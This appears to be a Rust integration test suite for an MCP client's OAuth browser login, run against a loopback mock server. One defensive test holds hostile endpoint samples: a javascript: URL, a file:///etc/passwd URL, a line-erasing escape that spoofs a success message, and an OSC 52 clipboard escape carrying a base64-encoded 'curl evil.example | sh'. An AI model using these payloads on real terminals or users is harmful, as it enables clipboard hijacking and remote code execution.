//! `mcp --http` against an OAuth-protected server (a loopback mock of an MCP
//! server and its authorization server): the CLI prints the authorization
//! URL, this test plays the browser (GET the URL, follow the redirect to the
//! CLI's 127.0.0.1 listener), the command succeeds, the token is cached, and
//! a second run uses it without asking.

#![allow(clippy::unwrap_used)] // test code

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};

const MCP: &str = env!("CARGO_BIN_EXE_mcp");
const TOKEN: &str = "at-cli-1";

struct Req {
    method: String,
    target: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

fn read_request(s: &mut TcpStream) -> Option<Req> {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    let head_end = loop {
        if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        let n = s.read(&mut chunk).ok()?;
        if n == 0 {
            return None;
        }
        buf.extend_from_slice(&chunk[..n]);
    };
    let head = String::from_utf8_lossy(&buf[..head_end]).into_owned();
    let mut lines = head.split("\r\n");
    let mut first = lines.next()?.split(' ');
    let method = first.next()?.to_owned();
    let target = first.next()?.to_owned();
    let headers: Vec<(String, String)> = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_owned()))
        .collect();
    let len: usize = headers
        .iter()
        .find(|(k, _)| k == "content-length")
        .and_then(|(_, v)| v.parse().ok())
        .unwrap_or(0);
    let mut body = buf[head_end..].to_vec();
    while body.len() < len {
        let n = s.read(&mut chunk).ok()?;
        if n == 0 {
            break;
        }
        body.extend_from_slice(&chunk[..n]);
    }
    Some(Req {
        method,
        target,
        headers,
        body,
    })
}

fn respond(s: &mut TcpStream, status: &str, headers: &[(&str, String)], body: &str) {
    let mut out = format!(
        "HTTP/1.1 {status}\r\nconnection: close\r\ncontent-length: {}\r\n",
        body.len()
    );
    for (k, v) in headers {
        out.push_str(&format!("{k}: {v}\r\n"));
    }
    out.push_str("\r\n");
    out.push_str(body);
    let _ = s.write_all(out.as_bytes());
}

fn query_param(target: &str, key: &str) -> Option<String> {
    let q = target.split_once('?')?.1;
    q.split('&').find_map(|p| {
        let (k, v) = p.split_once('=')?;
        (k == key).then(|| {
            let mut out = Vec::new();
            let b = v.as_bytes();
            let mut i = 0;
            while i < b.len() {
                if b[i] == b'%' && i + 2 < b.len() {
                    out.push(u8::from_str_radix(&v[i + 1..i + 3], 16).unwrap());
                    i += 3;
                } else {
                    out.push(b[i]);
                    i += 1;
                }
            }
            String::from_utf8(out).unwrap()
        })
    })
}

/// The mock: MCP at /mcp (401 without the token), PRM, AS metadata,
/// /register, /authorize (auto-approves), /token. Returns the base URL and
/// a log of "METHOD path" lines.
fn start_mock() -> (String, Arc<Mutex<Vec<String>>>) {
    start_mock_with(None)
}

/// [`start_mock`] whose metadata names `authorization_endpoint` (default:
/// its own `/authorize`).
fn start_mock_with(authorization_endpoint: Option<&str>) -> (String, Arc<Mutex<Vec<String>>>) {
    let authorization_endpoint = authorization_endpoint.map(str::to_owned);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://127.0.0.1:{}", listener.local_addr().unwrap().port());
    let log = Arc::new(Mutex::new(Vec::new()));
    let (b, l) = (base.clone(), log.clone());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { break };
            let (base, log) = (b.clone(), l.clone());
            let authorization_endpoint = authorization_endpoint.clone();
            std::thread::spawn(move || {
                let Some(req) = read_request(&mut s) else {
                    return;
                };
                let path = req.target.split('?').next().unwrap_or("").to_owned();
                log.lock().unwrap().push(format!("{} {path}", req.method));
                let json_h = [("content-type", "application/json".to_owned())];
                match (req.method.as_str(), path.as_str()) {
                    ("GET", "/.well-known/oauth-protected-resource/mcp") => respond(
                        &mut s,
                        "200 OK",
                        &json_h,
                        &json!({"resource": format!("{base}/mcp"), "authorization_servers": [base]})
                            .to_string(),
                    ),
                    ("GET", "/.well-known/oauth-authorization-server") => respond(
                        &mut s,
                        "200 OK",
                        &json_h,
                        &json!({
                            "issuer": base,
                            "authorization_endpoint": authorization_endpoint
                                .unwrap_or_else(|| format!("{base}/authorize")),
                            "token_endpoint": format!("{base}/token"),
                            "registration_endpoint": format!("{base}/register"),
                            "code_challenge_methods_supported": ["S256"],
                            "token_endpoint_auth_methods_supported": ["none"],
                        })
                        .to_string(),
                    ),
                    ("POST", "/register") => {
                        respond(&mut s, "201 Created", &json_h, r#"{"client_id":"cli"}"#)
                    }
                    ("GET", "/authorize") => {
                        let redirect = query_param(&req.target, "redirect_uri").unwrap();
                        let state = query_param(&req.target, "state").unwrap();
                        assert!(redirect.starts_with("http://127.0.0.1:"), "{redirect}");
                        respond(
                            &mut s,
                            "302 Found",
                            &[("location", format!("{redirect}?code=c1&state={state}"))],
                            "",
                        );
                    }
                    ("POST", "/token") => respond(
                        &mut s,
                        "200 OK",
                        &json_h,
                        &json!({"access_token": TOKEN, "token_type": "Bearer", "expires_in": 3600})
                            .to_string(),
                    ),
                    ("POST", "/mcp") => {
                        let authorized = req
                            .headers
                            .iter()
                            .any(|(k, v)| k == "authorization" && v == &format!("Bearer {TOKEN}"));
                        if !authorized {
                            respond(
                                &mut s,
                                "401 Unauthorized",
                                &[(
                                    "www-authenticate",
                                    format!(
                                        r#"Bearer resource_metadata="{base}/.well-known/oauth-protected-resource/mcp""#
                                    ),
                                )],
                                "",
                            );
                            return;
                        }
                        let msg: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
                        let Some(id) = msg.get("id").cloned() else {
                            respond(&mut s, "202 Accepted", &[], "");
                            return;
                        };
                        let answer = match msg["method"].as_str() {
                            Some("initialize") => json!({"jsonrpc": "2.0", "id": id, "result": {
                                "protocolVersion": "2025-11-25",
                                "capabilities": {"tools": {}},
                                "serverInfo": {"name": "oauth-mock", "version": "1.0.0"}
                            }}),
                            Some("tools/list") => json!({"jsonrpc": "2.0", "id": id, "result": {"tools": [
                                {"name": "secret_tool", "inputSchema": {"type": "object"}}
                            ]}}),
                            _ => json!({"jsonrpc": "2.0", "id": id, "error": {"code": -32601, "message": "Method not found"}}),
                        };
                        respond(&mut s, "200 OK", &json_h, &answer.to_string());
                    }
                    _ => respond(&mut s, "405 Method Not Allowed", &[], ""),
                }
            });
        }
    });
    (base, log)
}

/// Plays the browser: GET the authorization URL, then the redirect target.
fn browse(url: &str) {
    let rest = url.strip_prefix("http://").unwrap();
    let (authority, path) = rest.split_at(rest.find('/').unwrap());
    let mut s = TcpStream::connect(authority).unwrap();
    write!(
        s,
        "GET {path} HTTP/1.1\r\nhost: {authority}\r\nconnection: close\r\n\r\n"
    )
    .unwrap();
    let mut resp = String::new();
    s.read_to_string(&mut resp).unwrap();
    let location = resp
        .lines()
        .find_map(|l| l.strip_prefix("location: "))
        .unwrap()
        .trim()
        .to_owned();
    let rest = location.strip_prefix("http://").unwrap();
    let (authority, path) = rest.split_at(rest.find('/').unwrap());
    let mut s = TcpStream::connect(authority).unwrap();
    write!(
        s,
        "GET {path} HTTP/1.1\r\nhost: {authority}\r\nconnection: close\r\n\r\n"
    )
    .unwrap();
    let mut resp = String::new();
    s.read_to_string(&mut resp).unwrap();
    assert!(resp.starts_with("HTTP/1.1 200"), "{resp}");
}

#[test]
fn cli_authorizes_in_the_browser_then_uses_the_cached_token() {
    let (base, log) = start_mock();
    let dir = std::env::temp_dir().join(format!("mcp-cli-oauth-{}", std::process::id()));
    let token_file = dir.join("tokens.json");
    let url = format!("{base}/mcp");

    let mut child = Command::new(MCP)
        .args(["--http", &url, "--json", "tools"])
        .env("MCP_TOKEN_FILE", &token_file)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut all = String::new();
        for line in BufReader::new(stderr).lines() {
            let line = line.unwrap();
            all.push_str(&line);
            all.push('\n');
            if let Some(u) = line.trim().strip_prefix("http") {
                browse(&format!("http{u}"));
            }
        }
        let _ = tx.send(all);
    });
    let mut stdout = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut stdout)
        .unwrap();
    let status = child.wait().unwrap();
    let stderr = rx.recv_timeout(Duration::from_secs(30)).unwrap();
    assert!(status.success(), "stderr: {stderr}\nstdout: {stdout}");
    assert!(stderr.contains("open this URL"), "{stderr}");
    assert!(stdout.contains("secret_tool"), "{stdout}");
    assert!(log.lock().unwrap().contains(&"GET /authorize".to_owned()));
    // The token is cached, and never printed.
    let cached = std::fs::read_to_string(&token_file).unwrap();
    assert!(cached.contains(TOKEN));
    assert!(!stderr.contains(TOKEN) && !stdout.contains(TOKEN));

    // Second run: no authorization.
    log.lock().unwrap().clear();
    let out = Command::new(MCP)
        .args(["--http", &url, "tools"])
        .env("MCP_TOKEN_FILE", &token_file)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(!stderr.contains("open this URL"), "{stderr}");
    let log = log.lock().unwrap().clone();
    assert!(
        !log.iter()
            .any(|l| l.contains("authorize") || l.contains("token")),
        "{log:?}"
    );
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn no_oauth_flag_keeps_the_401() {
    let (base, log) = start_mock();
    let out = Command::new(MCP)
        .args(["--http", &format!("{base}/mcp"), "--no-oauth", "tools"])
        .env(
            "MCP_TOKEN_FILE",
            std::env::temp_dir().join("mcp-cli-oauth-unused.json"),
        )
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("401"), "{stderr}");
    assert!(!log.lock().unwrap().iter().any(|l| l.contains("well-known")));
}

/// The browser login is the user's time, not the server's (issue 33 #4):
/// with `--timeout 1`, a login that takes 2 s in the browser still
/// completes, because the login's own allowance starts when the URL is
/// printed (and only then: see tests/hostile.rs for a server that never
/// asks for a login and is cut off at the timeout).
#[test]
fn a_login_slower_than_the_timeout_is_not_cut_short() {
    let (base, _log) = start_mock();
    let dir = std::env::temp_dir().join(format!("mcp-cli-oauth-slow-{}", std::process::id()));
    let url = format!("{base}/mcp");
    let mut child = Command::new(MCP)
        .args(["--http", &url, "--timeout", "1", "tools"])
        .env("MCP_TOKEN_FILE", dir.join("tokens.json"))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut all = String::new();
        for line in BufReader::new(stderr).lines() {
            let line = line.unwrap();
            all.push_str(&line);
            all.push('\n');
            if let Some(u) = line.trim().strip_prefix("http") {
                // A person reading the URL and logging in: longer than --timeout.
                std::thread::sleep(Duration::from_secs(2));
                browse(&format!("http{u}"));
            }
        }
        let _ = tx.send(all);
    });
    let mut stdout = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut stdout)
        .unwrap();
    let status = child.wait().unwrap();
    let stderr = rx.recv_timeout(Duration::from_secs(30)).unwrap();
    assert!(status.success(), "stderr: {stderr}\nstdout: {stdout}");
    assert!(stdout.contains("secret_tool"), "{stdout}");
    let _ = std::fs::remove_dir_all(dir);
}

/// A hostile authorization server's endpoint never reaches the terminal:
/// not a `javascript:` URL, not one carrying OSC 52 (which would write the
/// clipboard) or a line-erasing CSI. `mcp` fails at once naming the refusal,
/// without printing an authorization URL or waiting for a browser.
#[test]
fn hostile_authorization_urls_are_never_printed() {
    for endpoint in [
        "javascript:alert(document.domain)//",
        "file:///etc/passwd",
        "https://as.example/authorize\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}",
        "https://as.example/authorize\u{1b}[2K\rmcp: authorized",
        "http://as.example/authorize",
    ] {
        let (base, log) = start_mock_with(Some(endpoint));
        let dir =
            std::env::temp_dir().join(format!("mcp-cli-oauth-hostile-{}", std::process::id()));
        let mut child = Command::new(MCP)
            .args(["--http", &format!("{base}/mcp"), "--timeout", "20", "tools"])
            .env("MCP_TOKEN_FILE", dir.join("tokens.json"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // Refused at once: no browser to wait for (the login allowance would
        // keep it waiting minutes).
        let deadline = std::time::Instant::now() + Duration::from_secs(15);
        let status = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break status;
            }
            if std::time::Instant::now() > deadline {
                let _ = child.kill();
                let _ = child.wait();
                panic!("{endpoint:?}: mcp waits for a browser to come back");
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        let mut stderr = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut stderr)
            .unwrap();
        assert_eq!(status.code(), Some(3), "{endpoint:?}: {stderr}");
        assert!(!stderr.contains("open this URL"), "{stderr}");
        assert!(stderr.contains("refused URL"), "{stderr}");
        assert!(
            !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
            "{stderr:?}"
        );
        let log = log.lock().unwrap().clone();
        assert!(
            !log.iter()
                .any(|l| l.contains("register") || l.contains("token")),
            "{log:?}"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }
}
